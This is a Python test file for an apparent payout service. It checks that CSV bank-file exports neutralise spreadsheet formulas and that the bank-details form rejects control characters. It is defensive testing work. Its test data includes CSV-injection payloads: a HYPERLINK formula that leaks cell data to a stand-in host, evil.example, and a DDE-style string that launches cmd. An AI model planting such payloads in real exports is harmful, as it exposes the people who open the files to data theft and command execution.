"""CSV exports are safe to open in a spreadsheet, and bank details cannot smuggle in control characters
(issue 14, finding 2): a name that begins like a formula comes out as text, amounts stay numbers."""
import csv
import io

import pytest
from sqlalchemy import select, update

from extensions import db
from models import PayoutAccount, PayoutBatch
from services import csv_export
from services.runners import payout_batch
from tests.support.web import form_post, otp_for

EN = {"Accept-Language": "en"}
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1")


def test_the_bank_file_writes_names_that_look_like_formulas_as_text(app, make_user, login, earnings):
    """What a provider typed as its holder or bank name must not run when finance opens the bank file."""
    providers = earnings(len(FORMULAS), amount=800_00)
    with app.app_context():
        for provider_id, formula in zip(providers, FORMULAS, strict=True):
            db.session.execute(update(PayoutAccount).where(PayoutAccount.provider_id == provider_id)
                               .values(bank_account_name=formula, bank_name=formula))
        db.session.commit()
        payout_batch.run_batch(payout_batch.start_batch(None).id)
        batch_id = db.session.scalar(select(PayoutBatch.id))
    client = login(make_user("admin"))
    body = client.get(f"/payouts/batches/{batch_id}/bank-file.csv").get_data(as_text=True)
    assert body.startswith("\ufeff")  # Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert {r["payee_name"] for r in rows} == {"'" + f for f in FORMULAS}
    assert {r["bank"] for r in rows} == {"'" + f for f in FORMULAS}
    assert {r["amount"] for r in rows} == {"800.00"}  # numbers are not escaped


def test_one_writer_escapes_text_and_leaves_numbers_readable():
    body = csv_export.render([["=1+1", "-5.00", -5, "-5x", "@a", "plain", None, "中文"]])
    assert body == "\ufeff'=1+1,-5.00,-5,'-5x,'@a,plain,,中文\r\n"


@pytest.mark.parametrize("bad", ["Lens\nLtd", "Lens\rLtd", "Lens\x1bLtd", "Lens\x85Ltd", "Lens\u202eLtd",
                                 "Lens\u2066Ltd", "Lens\x7fLtd", "Lens\tLtd"])
def test_bank_details_refuse_control_characters(app, make_user, login, bad):
    provider = make_user("provider", totp=True)  # changing payout details needs a two-factor code
    client = login(provider)
    for field in ("account_name", "bank_name"):
        data = {"account_name": "Shanghai Lens Ltd", "bank_name": "ICBC Xuhui", "account_number": "6222020200112233"}
        data[field] = bad
        r = form_post(client, "/payouts/bank-details", data, page="/payouts", headers=EN)
        assert r.status_code == 422 and "control characters" in r.get_data(as_text=True), (field, r.status_code)
    with app.app_context():
        assert db.session.get(PayoutAccount, provider.id) is None  # nothing saved
    ok = {"account_name": "上海镜头 Ltd.", "bank_name": "ICBC Xuhui", "account_number": "6222020200112233",
          "otp": otp_for(app, provider.email)}
    assert form_post(client, "/payouts/bank-details", ok, page="/payouts").status_code == 302
